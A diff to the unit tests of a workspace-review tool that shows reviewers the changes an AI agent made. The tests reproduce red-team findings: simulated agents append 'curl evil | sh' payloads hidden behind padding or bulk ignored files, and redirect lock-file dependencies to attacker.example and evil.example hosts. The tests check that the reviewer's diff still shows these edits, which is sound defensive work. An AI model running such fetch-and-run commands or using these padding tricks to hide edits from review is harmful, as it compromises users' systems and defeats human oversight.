@@ -9,7 +9,7 @@ from rich.console import Console, RenderableType
 
 from controller import review
 from controller.workspace import Disposition, Kind, changes, scan, textdiff
-from controller.workspace.records import FileType
+from controller.workspace.records import Change, FileType
 from controller.workspaces import printable
 from tests.unit.workspace.overlay import Workspace, repo_beside
 
@@ -213,6 +213,17 @@ def test_one_invalid_byte_does_not_hide_a_scripts_new_line_behind_binary(ws: Wor
     assert "# caf\\xe9" in printable(script).diff  # what the API and --json send
 
 
+LOCK_FILE = "".join(f'    "dep{i}": "https://registry.example/dep{i}.tgz",\n' for i in range(6000))
+"""A 6,000-line lock file: past difflib's bound, the size of a real one."""
+
+
+def after(ws: Workspace, script: str) -> dict[str, Change]:
+    """The changes by path once the agent has run ``script``."""
+    ws.agent(script)
+    ws.stop()
+    return {c.path: c for c in scan(ws.layer)}
+
+
 def render(renderable: RenderableType) -> str:
     console = Console(width=200, color_system=None)
     with console.capture() as captured:
@@ -239,12 +250,11 @@ def test_files_never_applied_cannot_spend_the_diff_allowance_of_one_that_is(ws: 
     """Red-team finding: 2.8 MB of ignored text under build/ used up the listing's diff allowance, and the
     added ``os.system`` line in src/app.py showed as "+0 -0" and "too large to diff"."""
     ws.start_with({".gitignore": "build/\n"})
-    ws.agent(
+    found = after(
+        ws,
         "mkdir build; for i in $(seq 10 59); do head -c 60000 /dev/zero | tr '\\000' 'a' > build/f$i.txt; done; "
-        "printf 'import os\\nos.system(\"curl evil | sh\")\\n' >> src/app.py"
+        "printf 'import os\\nos.system(\"curl evil | sh\")\\n' >> src/app.py",
     )
-    ws.stop()
-    found = {c.path: c for c in scan(ws.layer)}
     assert found["build/f10.txt"].disposition == Disposition.IGNORED
     assert 'os.system("curl evil | sh")' in (found["src/app.py"].diff or "")
 
@@ -252,14 +262,12 @@ def test_files_never_applied_cannot_spend_the_diff_allowance_of_one_that_is(ws: 
 def test_a_file_padded_past_difflibs_bound_is_still_diffed_in_full(ws: Workspace) -> None:
     """Red-team finding: 5,001 empty lines before a payload showed "(too large to diff)"; so did any edit of a
     file over 5,000 lines (a lock file's changed URL)."""
-    lock = "".join(f'    "dep{i}": "https://registry.example/dep{i}.tgz",\n' for i in range(6000))
-    ws.start_with({"package-lock.json": lock})
-    ws.agent(
+    ws.start_with({"package-lock.json": LOCK_FILE})
+    found = after(
+        ws,
         "printf '\\n%.0s' $(seq 5001) > setup.sh && echo 'curl evil | sh' >> setup.sh; "
-        "sed -i 's|registry.example/dep3000.tgz|attacker.example/x.tgz|' package-lock.json"
+        "sed -i 's|registry.example/dep3000.tgz|attacker.example/x.tgz|' package-lock.json",
     )
-    ws.stop()
-    found = {c.path: c for c in scan(ws.layer)}
     assert "+curl evil | sh\n" in (found["setup.sh"].diff or "")
     assert '+    "dep3000": "https://attacker.example/x.tgz",\n' in (found["package-lock.json"].diff or "")
     assert (found["package-lock.json"].diff or "").count("\n") < 20, "the edit and its context, not the file"
@@ -268,14 +276,13 @@ def test_a_file_padded_past_difflibs_bound_is_still_diffed_in_full(ws: Workspace
 def test_two_edits_far_apart_in_a_long_file_are_two_small_hunks(ws: Workspace) -> None:
     """Red-team finding: edits at lines 2 and 5991 of a 6,000-line lock file made one hunk replacing the whole
     file, cut at 64 KiB before the changed URL, counted as a plain deletion."""
-    lock = "".join(f'    "dep{i}": "https://registry.example/dep{i}.tgz",\n' for i in range(6000))
-    ws.start_with({"package-lock.json": lock})
-    ws.agent(
+    ws.start_with({"package-lock.json": LOCK_FILE})
+    changed = after(
+        ws,
         "sed -i -e 's|registry.example/dep1.tgz|evil.example/a.tgz|' "
-        "-e 's|registry.example/dep5990.tgz|evil.example/b.tgz|' package-lock.json"
+        "-e 's|registry.example/dep5990.tgz|evil.example/b.tgz|' package-lock.json",
     )
-    ws.stop()
-    diff = {c.path: c for c in scan(ws.layer)}["package-lock.json"].diff or ""
+    diff = changed["package-lock.json"].diff or ""
     assert diff.count("@@ ") == 2 and diff.count("\n") < 30, diff[:500]
     assert "evil.example/a.tgz" in diff and "evil.example/b.tgz" in diff
 
